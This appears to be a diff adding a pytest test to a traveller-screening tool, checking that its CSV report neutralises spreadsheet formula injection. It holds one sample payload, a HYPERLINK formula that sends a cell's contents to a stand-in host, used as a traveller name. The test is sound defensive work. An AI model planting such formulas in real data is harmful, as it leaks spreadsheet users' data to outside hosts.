@@ -166,3 +166,28 @@ def test_the_cli_refuses_an_unknown_date_policy_before_anything_is_sent(tmp_path
     assert (
         "covering, every, finest" in refused.output or "every, covering, finest" in refused.output
     )
+
+
+def test_no_cell_of_the_csv_report_runs_as_a_formula(
+    screened: dict[str, Any], tmp_path: Path
+) -> None:
+    """Travellers' names come from an airline's file and details from peers: opened in a
+    spreadsheet, the report must show them, not run them."""
+    import csv
+    import dataclasses
+
+    from node.cli.screen_cmd import write_reports
+    from node.manifests.model import Rejected
+
+    screening = screened["screening"]
+    evil = '=HYPERLINK("http://x.example/?"&A1,"open")'
+    rejected = Rejected(99, "segment 400", evil, ("-no document, +no birth date",))
+    screening = dataclasses.replace(screening, unqueried=[*screening.unqueried, rejected])
+    csv_path, _ = write_reports(screening, tmp_path / "flight")
+    with csv_path.open(encoding="utf-8", newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    row = next(r for r in rows if r["position"] == "99")
+    assert row["name"] == "'" + evil and row["detail"] == "'-no document, +no birth date"
+    for cell in (c for r in rows for c in r.values()):
+        assert not cell.startswith(("=", "+", "-", "@")), cell
+    assert len(rows) == len(screening.csv_rows())  # nothing dropped
